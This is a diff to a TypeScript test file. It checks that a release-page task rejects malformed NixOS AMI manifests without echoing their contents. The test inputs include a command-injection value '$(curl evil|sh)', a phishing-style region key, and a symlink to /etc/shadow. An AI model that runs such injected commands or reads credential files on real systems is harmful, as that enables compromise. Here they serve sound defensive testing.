@@ -43,7 +43,7 @@ const fixture: ReleaseManifest = {
 				label: "26.05.20260616.567a49d",
 				sourceImage: {
 					region: "us-east-1",
-					imageId: `ami-0source${s}`,
+					imageId: `ami-0${s}c0ffee00000000`,
 					name: `nixos-26.05-${system}`,
 				},
 				imageBuilderImage: `arn:aws:imagebuilder:us-east-1:123456789012:image/nixos-${system}/1.0.0/1`,
@@ -281,5 +281,69 @@ describe("release-page refuses in one sentence", () => {
 			"outputs/main/release.json is no release manifest this version can render (no valid releasedAt); run `bun task release` again to write it anew.",
 		);
 		expect(written).toBe(false);
+	});
+
+	test("with values not of their form, naming the fields and never their content", async () => {
+		const other = projectCopy();
+		mkdirSync(join(other.dir, "outputs/main"), { recursive: true });
+		const x86 = fixture.amis["x86_64-linux"] as NonNullable<(typeof fixture.amis)[string]>;
+		const variants: [object, string][] = [
+			[
+				{
+					amis: {
+						"x86_64-linux": { ...x86, regions: { "evil.example/phish?": "ami-0123456789abcdef0" } },
+					},
+				},
+				"amis.x86_64-linux.regions",
+			],
+			[
+				{ amis: { "x86_64-linux": { ...x86, ssmParameter: "$(curl evil|sh)" } } },
+				"amis.x86_64-linux.ssmParameter",
+			],
+			[{ amis: { "x86_64-linux": { ...x86, regions: {} } } }, "amis.x86_64-linux.regions"],
+			[
+				{ amis: { "x86_64-linux": { ...x86, regions: { "eu-west-1": "not-an-ami" } } } },
+				"amis.x86_64-linux.regions",
+			],
+			[{ releasedAt: "yesterday" }, "releasedAt"],
+			[{ regions: ["us-east-1"] }, "amis.x86_64-linux.regions, amis.aarch64-linux.regions"],
+		];
+		try {
+			for (const [change, field] of variants) {
+				writeFileSync(
+					join(other.dir, "outputs/main/release.json"),
+					JSON.stringify({ ...fixture, ...change }),
+				);
+				const run = await bunTask(["release-page"], { cwd: other.dir });
+				expect(run.exitCode).toBe(1);
+				expect(run.stderr).toContain(
+					`outputs/main/release.json is no release manifest this version can render (no valid ${field}); run \`bun task release\` again to write it anew.`,
+				);
+				for (const content of ["evil", "curl", "yesterday", "not-an-ami"])
+					expect(run.stderr).not.toContain(content);
+				expect(existsSync(join(other.dir, "outputs/main/release/index.html"))).toBe(false);
+			}
+			for (const [text, what] of [
+				["null", "holds JSON that is not an object (null)"],
+				["[]", "holds JSON that is not an object (an array)"],
+			] as const) {
+				writeFileSync(join(other.dir, "outputs/main/release.json"), text);
+				const run = await bunTask(["release-page"], { cwd: other.dir });
+				expect(run.exitCode).toBe(1);
+				expect(run.stderr).toContain(`release.json ${what}; fix it and run the task again.`);
+				expect(run.stderr).not.toContain("this is a bug");
+			}
+			// A link to a file that is not ours to show: not a word of it.
+			rmSync(join(other.dir, "outputs/main/release.json"));
+			Bun.spawnSync(["ln", "-s", "/etc/shadow", join(other.dir, "outputs/main/release.json")]);
+			const run = await bunTask(["release-page"], { cwd: other.dir });
+			expect(run.exitCode).toBe(1);
+			expect(run.stderr).toContain(
+				"release.json is not valid JSON; fix it and run the task again.",
+			);
+			expect(run.stderr).not.toContain("root");
+		} finally {
+			other.dispose();
+		}
 	});
 });
